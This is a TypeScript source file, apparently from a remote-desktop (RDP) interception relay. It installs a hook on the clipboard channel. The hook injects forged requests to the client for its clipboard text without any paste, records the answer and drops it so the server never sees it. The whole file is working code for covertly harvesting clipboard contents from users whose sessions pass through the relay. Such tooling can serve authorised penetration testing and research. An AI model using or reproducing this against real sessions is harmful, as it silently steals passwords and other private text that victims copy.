import {
  ClipboardFormat,
  type ClipboardFormatEntry,
  ClipboardMessageType,
  isClipboardPdu,
} from '../channels/handlers/cliprdr'
import type { Diagnostics } from '../diagnostics'
import { drop } from '../relay/hooks'
import type { RelaySession } from '../relay/session'

export interface ActiveClipboardOptions {
  readonly diagnostics?: Diagnostics
}

const CLIPBOARD_CHANNEL = 'cliprdr'

function preferredTextFormat(formats: ReadonlyArray<ClipboardFormatEntry>): number | undefined {
  const ids = new Set(formats.map((format) => format.id))
  if (ids.has(ClipboardFormat.UnicodeText)) return ClipboardFormat.UnicodeText
  if (ids.has(ClipboardFormat.Text)) return ClipboardFormat.Text
  return undefined
}

/**
 * Requests the client's clipboard text as soon as the server acknowledges a
 * new format list, without waiting for a paste. The client's answer is
 * dropped before it reaches the server; install clipboard capture first so
 * it is recorded.
 */
export function installActiveClipboard(
  session: RelaySession,
  options: ActiveClipboardOptions = {},
): () => void {
  let offered: number | undefined
  let awaiting = 0

  const request = (formatId: number) => {
    awaiting += 1
    void session
      .inject('server-to-client', CLIPBOARD_CHANNEL, {
        event: { type: 'format-data-request', msgFlags: 0, formatId },
      })
      .then(
        () => {
          options.diagnostics?.info('clipboard-request', 'Requested client clipboard text', {
            sessionId: session.sessionId,
            formatId,
          })
        },
        (error: unknown) => {
          awaiting -= 1
          options.diagnostics?.warn('clipboard-request-failed', 'Clipboard request was not sent', {
            sessionId: session.sessionId,
            error: error instanceof Error ? error.message : String(error),
          })
        },
      )
  }

  return session.registerHook(
    (message) => message.channelType === CLIPBOARD_CHANNEL,
    (message) => {
      const pdu = message.event
      if (!isClipboardPdu(pdu)) return
      if (message.direction === 'client-to-server') {
        if (pdu.type === 'format-list') {
          offered = preferredTextFormat(pdu.formats)
        } else if (pdu.type === 'format-data-response' && awaiting > 0) {
          awaiting -= 1
          return drop()
        }
        return
      }
      if (
        pdu.type === 'other' &&
        pdu.msgType === ClipboardMessageType.FormatListResponse &&
        offered !== undefined
      ) {
        const formatId = offered
        offered = undefined
        request(formatId)
      }
    },
  )
}
